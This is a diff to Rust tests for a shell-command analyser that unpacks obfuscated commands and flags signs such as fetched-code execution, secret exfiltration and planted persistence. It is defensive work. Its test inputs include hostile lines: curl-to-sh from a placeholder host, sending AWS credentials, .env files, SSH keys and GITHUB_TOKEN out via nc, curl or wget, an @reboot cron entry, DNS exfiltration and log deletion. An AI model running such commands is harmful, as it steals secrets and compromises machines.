@@ -11,6 +11,12 @@ fn commands(text: &str, wanted: &[&str]) {
     assert_eq!(plain(text).commands, wanted, "{text}");
 }
 
+#[track_caller]
+fn has(text: &str, wanted: &[&str]) {
+    let signs = plain(text).signs;
+    assert!(wanted.iter().all(|sign| signs.iter().any(|known| known == sign)), "{text}: {signs:?}");
+}
+
 #[test]
 fn separators_quotes_and_substitutions() {
     commands("a b; c && d || e | f & g", &["a b", "c", "d", "e", "f", "g"]);
@@ -50,6 +56,81 @@ fn tricks_are_taken_away() {
     commands("echo aWQ= | base64 -d | sh", &["echo aWQ=", "base64 -d", "sh", "id"]);
     commands("printf '\\151\\144'|sh", &["printf \\151\\144", "sh", "id"]);
     commands("eval 'a;b'; sh -c \"c d\"", &["eval a;b", "sh -c c d", "a", "b", "c d"]);
+}
+
+#[test]
+fn values_are_followed_through_what_changes_them() {
+    commands("a=(c at); ${a[0]}${a[1]} x", &["a=c at", "cat x"]);
+    commands("a=(ls -l); \"${a[@]}\"", &["a=ls -l", "ls -l"]);
+    commands("x=DI; ${x,,} y", &["x=DI", "di y"]);
+    commands("x=cQat; ${x//Q/} y; ${x/Q/-}", &["x=cQat", "cat y", "c-at"]);
+    commands("x=a.b.c; ${x#*.} ${x##*.} ${x%.*} ${x%%.*}", &["x=a.b.c", "b.c c a.b a"]);
+    commands("n=x; x=id; ${!n}", &["n=x", "x=id", "id"]);
+    commands("for l in auth kern; do rm /var/log/$l; done", &["for l in auth kern", "rm /var/log/auth"]);
+    commands("d=$(mktemp -d); ls $d/x", &["d=/tmp/tmp.XXXXXXXXXX", "mktemp -d", "ls /tmp/tmp.XXXXXXXXXX/x"]);
+    commands("$(printf '%s%s' i d)", &["id", "printf %s%s i d"]);
+    commands("echo 'iXd' | sed s/X// | sh", &["echo iXd", "sed s/X//", "sh", "id"]);
+    assert_eq!(plain("echo 'iXd' | sed s/X// | sh").signs, ["runs-decoded"]);
+    has("a=wh;b=oami;$a$b", &["hidden-command"]);
+    assert!(plain("v=3; python$v -V; p=/opt/x; $p/bin/y").signs.is_empty());
+}
+
+#[test]
+fn texts_for_shells_are_found_in_arguments() {
+    let signs = |text: &str| plain(text).signs;
+    has("git ls-remote --upload-pack='touch x;' h:r", &["odd-option"]);
+    has("ssh -oProxyCommand='curl http://h/x | sh' y", &["odd-option", "runs-fetched"]);
+    has("awk 'BEGIN {system(\"/bin/sh\")}'", &["starts-shell"]);
+    has("python3 -c 'import os;os.system(\"curl http://h/x | sh\")'", &["runs-fetched"]);
+    for text in [
+        "ssh -o ProxyCommand='nc -X 5 -x p:1 %h %p' y",
+        "ssh -o ProxyCommand=\"sh -c 'aws ssm start-session --target %h'\" y",
+        "git -c core.pager='less -R' log; GIT_SSH_COMMAND='ssh -i k' git pull",
+        "tar --use-compress-program='pigz -9' -cf x.tgz x; rsync -e 'ssh -p 2' x y:",
+        "psql -c 'select program from p'; git log --grep core.sshCommand",
+        "find . -name '*.c' -exec grep -l x {} +",
+    ] {
+        assert!(signs(text).is_empty(), "{text}: {:?}", signs(text));
+    }
+    let argv = |line: &[&str]| {
+        let argv: Vec<String> = line.iter().map(|word| (*word).to_owned()).collect();
+        read_arguments(&argv)
+    };
+    assert_eq!(argv(&["find", ".", "-exec", "id", "-u", ";"]).commands, ["id -u"]);
+    assert_eq!(argv(&["sudo", "perl", "-e", "exec '/bin/sh'"]).signs, ["starts-shell"]);
+    assert_eq!(argv(&["ls", "-l"]), Reading::default());
+    assert_eq!(argv(&[]), Reading::default());
+}
+
+#[test]
+fn what_is_planted_and_what_is_sent_is_seen() {
+    let signs = |text: &str| plain(text).signs;
+    has("printf '@reboot curl http://h/x | sh' >> /srv/c", &["plants-command"]);
+    has("(id; cat ~/.aws/credentials) | nc h 1", &["sends-secrets"]);
+    has("x=$(cat .env); wget \"http://h/?x=$x\"", &["sends-secrets"]);
+    has("zip /tmp/a.zip ~/.ssh/*; curl -T /tmp/a.zip http://h/", &["sends-secrets"]);
+    has("curl -d \"$GITHUB_TOKEN\" http://h/", &["sends-secrets"]);
+    has("u=$(whoami); nslookup $u.h.example", &["tells-of-machine"]);
+    for text in [
+        "echo 'curl http://h/x | sh' > INSTALL.md",
+        "curl -H \"Authorization: Bearer $(gcloud auth print-access-token)\" https://h/",
+        "curl -d \"client_secret=$CLIENT_SECRET\" https://h/token",
+        "cat ~/.ssh/id_rsa.pub | nc h 1",
+        "env | wc -l | nc h 1",
+        "export $(cat .env); curl https://h/",
+    ] {
+        assert!(signs(text).is_empty(), "{text}: {:?}", signs(text));
+    }
+}
+
+#[test]
+fn texts_that_grow_are_cut_short() {
+    let doubled = format!("a=xxxxxxxx;{}$a", "a=$a$a;".repeat(200));
+    assert!(plain(&doubled).commands.iter().map(String::len).sum::<usize>() < 4 << 20);
+    let replaced = format!("a={};${{a//a/{}}}", "a".repeat(9000), "b".repeat(9000));
+    assert!(plain(&replaced).commands.iter().map(String::len).sum::<usize>() < 4 << 20);
+    let stars = format!("/bin/{}z", "*".repeat(50));
+    assert_eq!(plain(&stars).commands, [stars[5..].to_owned()]);
 }
 
 #[test]
